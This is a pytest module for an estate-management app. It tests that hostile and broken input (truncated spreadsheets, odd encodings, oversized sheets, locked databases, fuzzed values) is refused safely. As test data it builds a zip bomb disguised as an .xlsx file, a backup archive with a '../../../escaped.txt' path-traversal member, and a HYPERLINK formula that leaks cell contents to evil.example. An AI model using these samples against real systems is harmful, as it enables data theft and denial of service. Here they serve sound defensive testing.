"""Hostile and broken input (A5: nothing lost): the cases of docs/hostile-input.md that no other
test module already proves. Each gets a clear zh/en message and changes nothing."""

from __future__ import annotations

import csv
import json
import sqlite3
import tempfile
import zipfile
from datetime import date
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from database_support import ADMIN_PASSWORD, PG_URL
from estate_desk.domain.errors import DatabaseProblem, InputProblem
from estate_desk.domain.estate.roster import ColumnMapping, Field, check_rows
from estate_desk.domain.estate.roster_cells import parse_date
from estate_desk.services import spreadsheets
from estate_desk.services.accounts import users as accounts
from estate_desk.services.archive import code_lookup
from estate_desk.services.archive import numbering as archive
from estate_desk.services.estate import roster, roster_export
from estate_desk.services.estate.buildings import add_owner, add_ownership, add_room, ensure_building
from estate_desk.services.maintenance import backup_check, backup_format, backup_write, restore
from estate_desk.store import database as database_module
from estate_desk.store.archive import Document
from estate_desk.store.database import Database, open_database
from estate_desk.store.estate import Owner

if TYPE_CHECKING:
    from estate_desk.domain.clock import FakeClock
    from estate_desk.services.actor import Actor

HEADERS = ["楼栋", "单元", "房号", "业主姓名", "联系电话", "入住日期", "面积"]


@pytest.fixture
def admin(ready_db: Database, clock: FakeClock) -> Actor:
    return accounts.authenticate(ready_db, clock, "admin", ADMIN_PASSWORD)


def _owners(db: Database) -> int:
    with db.session() as s:
        return int(s.scalar(select(func.count()).select_from(Owner)) or 0)


# --------------------------------------------------------------------------- spreadsheets


def test_a2_a_truncated_xlsx_is_refused_clearly(
    ready_db: Database, clock: FakeClock, admin: Actor, tmp_path: Path
) -> None:
    good = tmp_path / "good.xlsx"
    spreadsheets.write_xlsx(good, "名册", HEADERS, [[3, 2, 1502, "张三", "13812345678", "2020-05-01", 89.5]])
    for cut in (len(good.read_bytes()) // 2, len(good.read_bytes()) - 30, 100):
        bad = tmp_path / f"cut-{cut}.xlsx"
        bad.write_bytes(good.read_bytes()[:cut])
        with pytest.raises(InputProblem) as info:
            roster.import_roster(ready_db, clock, admin, bad)
        assert "不是可以读取的表格文件" in info.value.zh and "not a spreadsheet" in info.value.en
        assert info.value.where == str(bad)
    assert _owners(ready_db) == 0


def test_a2_a_zip_bomb_posing_as_xlsx_is_refused_before_it_is_unpacked(
    ready_db: Database, clock: FakeClock, admin: Actor, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bomb = tmp_path / "名册.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with zf.open("xl/worksheets/sheet1.xml", "w") as part:
            block = b"<row>" + b"0" * (1024 * 1024 - 5)
            for _ in range(64):  # 64 MB of nothing, packed into ~64 KB
                part.write(block)
    assert bomb.stat().st_size < 1024 * 1024

    import openpyxl

    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("openpyxl must not unpack a zip bomb")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    with pytest.raises(InputProblem) as info:
        roster.import_roster(ready_db, clock, admin, bomb)
    assert "压缩炸弹" in info.value.zh and "zip bomb" in info.value.en and info.value.where == str(bomb)
    assert _owners(ready_db) == 0


def _rows(n: int) -> list[list[object]]:
    return [[n // 400 + 1, 1, 101 + n % 400, f"业主{n:06d}", "", "", ""] for n in range(n)]


def test_a2_a_100000_row_sheet_is_refused_with_its_limit_and_nothing_is_written(
    ready_db: Database, clock: FakeClock, admin: Actor, tmp_path: Path
) -> None:
    big_csv = tmp_path / "big.csv"
    with big_csv.open("w", encoding="utf-8", newline="") as fh:
        out = csv.writer(fh)
        out.writerow(HEADERS)
        out.writerows(_rows(100_000))
    big_xlsx = tmp_path / "big.xlsx"
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet("名册")
    sheet.append(HEADERS)
    for row in _rows(100_000):
        sheet.append(row)
    book.save(big_xlsx)

    for path in (big_csv, big_xlsx):
        with pytest.raises(InputProblem) as info:
            roster.import_roster(ready_db, clock, admin, path)
        assert "50,000" in info.value.zh and "50,000" in info.value.en and info.value.where == str(path)
    assert _owners(ready_db) == 0
    # the largest sheet allowed still reads (an estate of 50,000 households)
    at_limit = tmp_path / "limit.csv"
    with at_limit.open("w", encoding="utf-8", newline="") as fh:
        out = csv.writer(fh)
        out.writerow(HEADERS)
        out.writerows(_rows(spreadsheets.MAX_ROWS))
    assert len(spreadsheets.read_roster(at_limit).data_rows) == spreadsheets.MAX_ROWS


@pytest.mark.parametrize(
    ("encoding", "says"),
    [
        ("utf-16-le", "不是可以读取的表格文件"),  # Excel's "Unicode text" without its BOM: NULs between the letters
        ("big5", "无法识别"),  # 王堃 in Big5 reads as a private-use character and a '?' in GB18030
    ],
)
def test_a2_a_csv_in_an_unexpected_encoding_is_refused_not_garbled(encoding: str, says: str, tmp_path: Path) -> None:
    path = tmp_path / f"{encoding}.csv"
    path.write_bytes("楼栋,单元,房号,业主姓名\r\n3,2,1502,王堃\r\n".encode(encoding, "replace"))
    with pytest.raises(InputProblem) as info:
        spreadsheets.read_roster(path)
    assert says in info.value.zh and info.value.en and info.value.where == str(path)


# --------------------------------------------------------------------------- exports


def test_a2_formula_injection_in_an_owner_name_is_exported_as_text(
    ready_db: Database, clock: FakeClock, admin: Actor, tmp_path: Path
) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点我查看")'
    with ready_db.session() as s:
        building = ensure_building(s, 3, 18)
        room = add_room(s, building, 2, 1502)
        owner = add_owner(s, clock, evil, phone="+1-555\x07")
        add_ownership(s, room, owner, date(2020, 5, 1), None)
    out = tmp_path / "名册.xlsx"

    roster_export.export_roster(ready_db, admin, out)

    from openpyxl import load_workbook

    sheet = load_workbook(out).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if c.value == evil]
    assert cells and all(c.data_type == "s" for c in cells)
    with zipfile.ZipFile(out) as zf:
        assert "<f>" not in zf.read("xl/worksheets/sheet1.xml").decode()
    assert any(c.value == "+1-555" for row in sheet.iter_rows() for c in row)  # the bell character dropped


# --------------------------------------------------------------------------- paths, disks, locks


def test_a5_a_backup_naming_a_file_outside_the_store_is_refused(
    ready_db: Database, clock: FakeClock, tmp_path: Path
) -> None:
    from estate_desk.services.maintenance.backup_crypto import Credentials

    good = tmp_path / "good.edbackup"
    backup_write.create_backup(ready_db, clock, accounts.authenticate(ready_db, clock, "admin", ADMIN_PASSWORD), good)
    evil = tmp_path / "evil.edbackup"
    members = []
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(evil, "w") as dst:
        for name in src.namelist():
            if name != backup_format.MANIFEST:
                data = src.read(name)
                dst.writestr(name, data)
                members.append({"name": name, "size": len(data), "sha256": _sha(data)})
        payload = b"owned"
        dst.writestr("attachments/../../../escaped.txt", payload)
        members.append({"name": "attachments/../../../escaped.txt", "size": 5, "sha256": _sha(payload)})
        dst.writestr(backup_format.MANIFEST, json.dumps({"format": backup_format.FORMAT, "members": members}))
        dst.comment = backup_format.COMMENT_PREFIX + b"0" * 64
    backup_format.seal_file(evil)  # checksums all correct: only the path is hostile
    backup_check.check_file(evil)

    with pytest.raises(InputProblem) as info:
        restore.restore_backup(
            f"sqlite+pysqlite:///{tmp_path / 'target.sqlite3'}",
            evil,
            Credentials(username="admin", password=ADMIN_PASSWORD),
            force=True,
        )
    assert "escaped.txt" in info.value.en
    assert not list(tmp_path.parent.rglob("escaped.txt"))


def _sha(data: bytes) -> str:
    import hashlib

    return hashlib.sha256(data).hexdigest()


@pytest.mark.skipif(bool(PG_URL), reason="a file lock is SQLite's; PostgreSQL has no file to lock")
def test_a5_a_database_file_locked_by_another_program_is_a_clear_message_and_loses_nothing(
    ready_db: Database, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(database_module, "BUSY_TIMEOUT_MS", 200)  # not ten seconds in a test
    db = open_database(ready_db.url)
    other = sqlite3.connect(str(ready_db.url.database), isolation_level=None)
    try:
        other.execute("BEGIN EXCLUSIVE")  # what a database viewer or a backup tool may do
        with pytest.raises(DatabaseProblem) as info, db.session() as s:
            archive.register_document(s, clock, archive.DocumentDraft("YZ", "锁定时登记", 2024), created_by=None)
        assert "其他程序占用" in info.value.zh and "locked by another program" in info.value.en
        other.execute("ROLLBACK")
        with db.session() as s:  # once the other program lets go, the same work goes through
            archive.register_document(s, clock, archive.DocumentDraft("YZ", "解锁后登记", 2024), created_by=None)
        with db.session() as s:
            assert s.scalars(select(Document.title)).all() == ["解锁后登记"]
    finally:
        other.close()
        db.dispose()


# --------------------------------------------------------------------------- the scanner


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(code=st.text(max_size=80) | st.binary(max_size=40).map(lambda b: b.decode("latin-1")))
def test_a8_a_scanner_sending_garbage_finds_nothing_and_raises_nothing(
    ready_db: Database, admin: Actor, code: str
) -> None:
    assert code_lookup.find_by_code(ready_db, admin, code) is None


def test_a8_a_code_from_another_estate_finds_nothing(demo_db: Database, clock: FakeClock) -> None:
    from estate_desk.services.demo.estate import DEMO_PASSWORD

    clerk = accounts.authenticate(demo_db, clock, "clerk", DEMO_PASSWORD)
    with demo_db.session() as s:
        ours = s.scalar(select(Document.archive_no).order_by(Document.id).limit(1))
    assert ours is not None and code_lookup.find_by_code(demo_db, clerk, ours) is not None
    fonds = ours.split("·")[0]
    theirs = ours.replace(fonds, "Z999", 1)  # the same number under another estate's 全宗号
    assert code_lookup.find_by_code(demo_db, clerk, theirs) is None


# --------------------------------------------------------------------------- fuzzing


@settings(max_examples=300, deadline=None)
@given(
    value=st.text(max_size=30)
    | st.integers()
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.dates()
    | st.datetimes()
    | st.none()
    | st.booleans()
)
def test_a2_the_date_parser_gives_a_date_or_an_input_problem(value: object) -> None:
    try:
        result = parse_date(value)  # type: ignore[arg-type]
    except InputProblem as exc:
        assert exc.zh and exc.en
    else:
        assert isinstance(result, date) and 1900 <= result.year <= 2100


@settings(max_examples=150, deadline=None)
@given(content=st.binary(max_size=600) | st.text(max_size=300).map(lambda t: t.encode("utf-8")))
def test_a2_the_importer_reads_any_bytes_as_a_roster_or_refuses_them(content: bytes) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "fuzz.csv"
        path.write_bytes(content)
        try:
            read = spreadsheets.read_roster(path)
        except InputProblem as exc:
            assert exc.zh and exc.en and exc.where == str(path)
        else:
            assert read.headers and read.data_rows


_cell = st.none() | st.text(max_size=12) | st.integers(-(10**12), 10**12) | st.floats(allow_nan=True) | st.dates()


@settings(max_examples=150, deadline=None)
@given(rows=st.lists(st.lists(_cell, min_size=7, max_size=7), max_size=15))
def test_a2_the_importer_checks_any_cells_into_rows_or_problems(rows: list[list[object]]) -> None:
    fields = [Field.BUILDING, Field.UNIT, Field.ROOM, Field.OWNER_NAME, Field.PHONE, Field.MOVE_IN, Field.AREA]
    mapping = ColumnMapping(headers=tuple(HEADERS), columns={f: n for n, f in enumerate(fields)})
    numbered = [(n, tuple(r)) for n, r in enumerate(rows, start=2)]
    good, problems = check_rows(numbered, mapping)  # type: ignore[arg-type]
    assert {r.row for r in good} <= {n for n, _ in numbered}
    assert all(p.message_zh and p.message_en for p in problems)


# --------------------------------------------------------------------------- the catalogue


def test_every_test_the_hostile_input_catalogue_names_exists() -> None:
    """docs/hostile-input.md names a test per line; each must be there (the LAN helper's once merged)."""
    import re

    root = Path(__file__).parent.parent
    lines = [line for line in (root / "docs" / "hostile-input.md").read_text().splitlines() if line.startswith("| ")]
    cases = [line for line in lines[2:]]
    assert len(cases) >= 20
    for line in cases:
        refs = re.findall(r"`(tests/[\w/]+\.py)?(?:::(\w+))?[^`]*`", line.split("|")[4])
        assert refs, line
        module: Path | None = None
        for path, name in refs:
            if path:
                module = root / path
            if not name or module is None:
                continue
            if not module.exists() and module.name == "test_lan.py":
                continue  # the LAN half of issue 9 lands with the other branch
            assert f"def {name}(" in module.read_text(), f"{module.name}::{name} is named in the catalogue"


def test_a8_control_characters_from_a_scanner_in_the_search_field_find_what_the_rest_names(
    demo_db: Database, clock: FakeClock
) -> None:
    from estate_desk.services.archive import search
    from estate_desk.services.demo.estate import DEMO_PASSWORD

    clerk = accounts.authenticate(demo_db, clock, "clerk", DEMO_PASSWORD)
    with demo_db.session() as s:
        ours = s.scalar(select(Document.archive_no).order_by(Document.id).limit(1))
    assert ours is not None
    clean = search.search(demo_db, clerk, ours)
    assert clean and search.search(demo_db, clerk, f"\x00{ours}\x07\r") == clean  # on PostgreSQL: no DataError
    assert search.search(demo_db, clerk, "\x00\x1b") == []
